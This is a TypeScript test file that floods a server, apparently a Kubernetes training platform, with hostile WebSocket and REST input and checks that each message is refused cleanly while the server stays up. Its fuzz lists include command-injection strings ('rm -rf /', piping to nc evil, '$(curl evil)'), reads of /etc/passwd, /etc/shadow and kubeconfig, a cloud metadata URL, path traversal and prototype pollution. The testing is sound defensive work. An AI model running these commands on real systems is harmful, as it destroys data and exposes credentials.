// Hostile input: ≥ 5,000 malformed or hostile messages over the WebSocket and REST (bad JSON, wrong types,
// huge frames, unknown ops, shell metacharacters in terminal lines, path tricks). The server stays up,
// answers each with a clear error, and another session keeps working throughout.
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { createSession, rest, startFixture, WsClient, type ServerFixture } from './fixture.js';

let fx: ServerFixture;
let attacker: { token: string; namespace: string };
let bystander: { token: string; namespace: string };

before(async () => {
  // A high rate limit so the messages reach validation (the limiter has its own test below).
  fx = await startFixture({ rateLimit: { perSecond: 100_000, burst: 100_000 } });
  [attacker, bystander] = await Promise.all([createSession(fx.url), createSession(fx.url)]);
});
after(() => fx?.close());

/** A deterministic generator (no flaky seeds). */
function* rng(seed: number): Generator<number> {
  let x = seed;
  for (;;) {
    x ^= x << 13;
    x ^= x >>> 17;
    x ^= x << 5;
    yield (x >>> 0) / 2 ** 32;
  }
}

const SHELLISH = ['kubectl get pods; rm -rf /', 'kubectl get pods | nc evil 1', '$(curl evil)', '`id`', 'kubectl get pods > /etc/passwd', 'cat /etc/passwd', 'sh -c id', 'bash', '../../bin/sh', 'kubectl exec -it x -- sh', 'kubectl apply -f /etc/shadow', 'kubectl --kubeconfig=/root/.kube/config get pods', 'curl http://169.254.169.254/', "kubectl get pods -o jsonpath-file=/etc/passwd", 'echo $HOME', 'kubectl get pods && id', 'node -e "process.exit()"', 'kubectl\nid', "'unterminated", 'x'.repeat(5000)];
const OPS = ['describeSession', 'applyResources', 'listResources', 'getResource', 'sendRequest', 'runTerminal', 'startBenchmark', 'getBenchmark', 'runCheck', 'updateProgress', 'tapMesh', 'compareBenchmarks', 'exportBenchmark'];

function hostileMessage(r: Generator<number>, i: number): string | Buffer {
  const n = () => r.next().value as number;
  const pick = <T>(xs: readonly T[]) => xs[Math.floor(n() * xs.length)];
  switch (i % 12) {
    case 0: return '{"id": "x", "op": ' + 'x'.repeat(Math.floor(n() * 50)); // truncated JSON
    case 1: return JSON.stringify([1, 2, 3]);
    case 2: return JSON.stringify({ id: `f${i}`, op: `no-such-op-${i}` });
    case 3: return JSON.stringify({ id: `f${i}`, op: pick(OPS), params: pick([5, 'str', [1], null, true]) });
    case 4: return JSON.stringify({ id: `f${i}`, op: 'runTerminal', params: { line: pick(SHELLISH) } });
    case 5: return JSON.stringify({ id: `f${i}`, op: 'sendRequest', params: { url: pick(['http://127.0.0.1/', 'http://[::1]/', 'gopher://x', 'http://httpbin.kube-system:8000/', `http://${'a'.repeat(3000)}/`, 'javascript:alert(1)', 'http://httpbin:99999/']) } });
    case 6: return JSON.stringify({ id: `f${i}`, op: 'applyResources', params: { manifest: pick(['{{{{', 'kind: [', '- a\n- b', 'apiVersion: v1\nkind: Pod\nmetadata: {name: "../../etc"}', '&a [*a, *a]', 'apiVersion: v1\nkind: Namespace\nmetadata: {name: kube-system}']) } });
    case 7: return JSON.stringify({ id: pick([null, {}, [], '', 'x'.repeat(100), -0.5]), op: 'describeSession' });
    case 8: return JSON.stringify({ id: `f${i}`, op: 'listResources', params: { resource: pick(['../secrets', 'pods/../../', 'a'.repeat(300), 'namespaces', 'nodes', '*']) } });
    case 9: return JSON.stringify({ id: `f${i}`, op: 'describeSession', params: { __proto__: { polluted: true }, constructor: { prototype: { x: 1 } } } });
    case 10: return Buffer.from([0xff, 0xfe, 0x00, 0x01, Math.floor(n() * 255)]);
    default: return JSON.stringify({ id: `f${i}`, op: 'runCheck', params: { check: pick(['../../x', 'route-split', 'UPPER', 'no-such-check']), args: { service: 5, weights: 'x' } } });
  }
}

test('5,000+ hostile WebSocket messages: each answered with a clear error, the server stays up', { timeout: 300_000 }, async () => {
  const ws = await WsClient.connect(fx.url, { token: attacker.token });
  const bystanderWs = await WsClient.connect(fx.url, { token: bystander.token });
  const r = rng(42);
  const TOTAL = 5200;
  const BATCH = 200;
  let sent = 0;
  for (let start = 0; start < TOTAL; start += BATCH) {
    for (let i = start; i < Math.min(TOTAL, start + BATCH); i++) {
      ws.sendRaw(hostileMessage(r, i));
      sent++;
    }
    // Wait for this batch's answers before the next (bounded), and check the bystander meanwhile.
    await ws.answerCount(sent, 60_000);
    if (start % 1000 === 0) {
      const ok = await bystanderWs.call('describeSession', undefined, { timeoutMs: 30_000 });
      assert.equal(ok.result?.namespace, bystander.namespace, 'another session keeps working during the attack');
    }
  }
  const answers = ws.orphans.filter((f) => !('event' in f));
  assert.equal(answers.length, TOTAL, 'every message got exactly one answer');
  const reasons = new Map<string, number>();
  for (const frame of answers) {
    if (frame.result) {
      // A terminal built-in (e.g. curl to a metadata address) reports its refusal on stderr with a failing exit code.
      assert.notEqual(frame.result.exitCode, 0, JSON.stringify(frame));
      const stderr = ws.orphans.filter((f) => f.id === frame.id && f.event?.stream === 'stderr').map((f) => f.event.data).join('');
      assert.match(stderr, /refused|not|only/i, stderr);
      reasons.set('TerminalExit', (reasons.get('TerminalExit') ?? 0) + 1);
      continue;
    }
    assert.ok(frame.error, `an error answer, got ${JSON.stringify(frame).slice(0, 300)}`);
    assert.equal(typeof frame.error.code, 'number');
    assert.match(frame.error.reason, /^[A-Z][A-Za-z]+$/);
    assert.ok(frame.error.message.length > 10, `a message a person can act on: ${frame.error.message}`);
    assert.doesNotMatch(frame.error.message, /\n\s+at /, 'no stack traces');
    reasons.set(frame.error.reason, (reasons.get(frame.error.reason) ?? 0) + 1);
  }
  for (const expected of ['InvalidJson', 'InvalidMessage', 'UnknownOperation', 'ValidationFailed', 'CommandRefused', 'TargetRefused'])
    assert.ok(reasons.has(expected), `saw ${expected}: ${[...reasons.keys()].join(', ')}`);
  assert.equal(({} as Record<string, unknown>).polluted, undefined, 'no prototype pollution');

  // A huge frame closes that socket (1009), and nothing else.
  const huge = await WsClient.connect(fx.url, { token: attacker.token });
  huge.sendRaw(JSON.stringify({ id: 'big', op: 'applyResources', params: { manifest: 'x'.repeat(2 * 1024 * 1024) } }));
  for (let i = 0; i < 100 && !huge.closed; i++) await new Promise((res) => setTimeout(res, 50));
  assert.equal(huge.closed?.code, 1009);

  assert.equal((await rest(fx.url, 'GET', '/healthz')).status, 200, 'the server is up');
  assert.equal((await bystanderWs.call('describeSession')).result.namespace, bystander.namespace);
  assert.equal((await ws.call('describeSession')).result.namespace, attacker.namespace, 'the attacker socket still works for valid messages');
  await ws.close();
  await bystanderWs.close();
  await huge.close();
});

test('hostile REST requests: clear errors with the right status, no crash', { timeout: 120_000 }, async () => {
  const cases: { method: string; path: string; raw?: string; headers?: Record<string, string>; status: number[] }[] = [
    { method: 'POST', path: '/api/session/resources', raw: '{not json', headers: { 'content-type': 'application/json' }, status: [400] },
    { method: 'POST', path: '/api/session/resources', raw: '{"manifest": 5}', headers: { 'content-type': 'application/json' }, status: [400] },
    { method: 'POST', path: '/api/session/resources', raw: 'manifest: x', headers: { 'content-type': 'application/yaml' }, status: [415] },
    { method: 'POST', path: '/api/session/resources', raw: JSON.stringify({ manifest: 'x'.repeat(2 * 1024 * 1024) }), headers: { 'content-type': 'application/json' }, status: [413] },
    { method: 'GET', path: '/api/session/resources/%2e%2e%2fsecrets', status: [400] },
    { method: 'GET', path: '/api/session/resources/pods/..%2F..%2Fnamespaces', status: [400] },
    { method: 'GET', path: '/api/session/mesh/tap?maxEvents=-1', status: [400] },
    { method: 'GET', path: '/api/session/mesh/stat?resource=secrets', status: [400] },
    { method: 'GET', path: '/api/session/mesh/stat?unknown=1', status: [400] },
    { method: 'POST', path: '/api/session/terminal', raw: JSON.stringify({ line: 'kubectl get pods; id' }), headers: { 'content-type': 'application/json' }, status: [400] },
    { method: 'POST', path: '/api/session/terminal', raw: JSON.stringify({ line: 'sh' }), headers: { 'content-type': 'application/json' }, status: [400] },
    { method: 'GET', path: '/api/session/benchmarks/compare?a=b-zzzzzz', status: [400] },
    { method: 'PATCH', path: '/api/session', status: [405] },
  ];
  for (let round = 0; round < 10; round++) {
    for (const c of cases) {
      const res = await rest(fx.url, c.method, c.path, { token: attacker.token, raw: c.raw, headers: c.headers });
      assert.ok(c.status.includes(res.status), `${c.method} ${c.path}: ${res.status} ${res.text.slice(0, 200)}`);
      assert.match(res.body.reason, /^[A-Z][A-Za-z]+$/);
      assert.ok(res.body.message.length > 10);
    }
  }
  assert.equal((await rest(fx.url, 'GET', '/api/session', { token: bystander.token })).status, 200);
});

test('the per-session rate limit answers TooManyRequests, naming the limit', async () => {
  // Next to no refill, so the outcome does not depend on how fast this machine answers.
  const limited = await fx.startServer({ rateLimit: { perSecond: 0.001, burst: 10 } });
  const ws = await WsClient.connect(limited.url, { token: attacker.token });
  const answers = await Promise.all(Array.from({ length: 30 }, () => ws.call('describeSession')));
  const limitedAnswers = answers.filter((x) => x.error?.reason === 'TooManyRequests');
  assert.ok(limitedAnswers.length >= 15, `most of 30 calls over a burst of 10 are refused (${limitedAnswers.length})`);
  assert.equal(limitedAnswers[0].error.details.limit, 'operationsPerSecond');
  const viaRest = await rest(limited.url, 'GET', '/api/session', { token: attacker.token });
  assert.equal(viaRest.status, 429, 'the limit is shared across transports');
  assert.ok(viaRest.headers.get('retry-after'));
  await ws.close();
});
